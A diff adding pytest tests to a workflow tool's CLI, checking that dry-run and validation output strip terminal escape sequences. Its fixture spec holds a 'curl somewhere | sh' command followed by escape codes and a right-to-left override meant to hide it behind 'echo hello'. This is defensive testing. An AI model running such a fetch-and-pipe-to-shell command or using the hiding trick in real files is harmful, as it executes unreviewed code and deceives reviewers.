@@ -88,3 +88,34 @@ def test_ctrl_c_prints_no_traceback_at_any_moment(moment: str, code: int) -> Non
     script = INTERRUPTED.replace("MODULE", moment)
     done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=60, check=False)
     assert (done.returncode, done.stderr) == (code, "")
+
+
+HIDING = r"""workflow:
+  name: hiding
+  tasks:
+  - name: one
+    command: [sh, -c, "curl somewhere | sh\e[2K\r echo hello"]
+    environment: {GREETING: "1\e[2J\u202e"}
+"""
+
+
+def test_a_dry_run_shows_a_command_that_would_hide_itself_on_a_terminal(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    spec = tmp_path / "spec.yaml"
+    spec.write_text(HIDING)
+    assert run(["workflow", "submit", "--dry-run", str(spec)]) == 0
+    shown = capsys.readouterr().out
+    assert "curl somewhere | sh" in shown
+    assert not {"\x1b", "\r", "\u202e"} & set(shown)
+
+
+def test_errors_and_warnings_that_quote_a_spec_leave_the_terminal_alone(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    spec = tmp_path / "spec.yaml"
+    spec.write_text(HIDING.replace("name: one", r'name: "one\e]0;title\a\e[2J"'))
+    assert run(["workflow", "validate", str(spec)]) == 2
+    said = capsys.readouterr().err
+    assert "must be a name" in said
+    assert all(character.isprintable() for line in said.splitlines() for character in line)
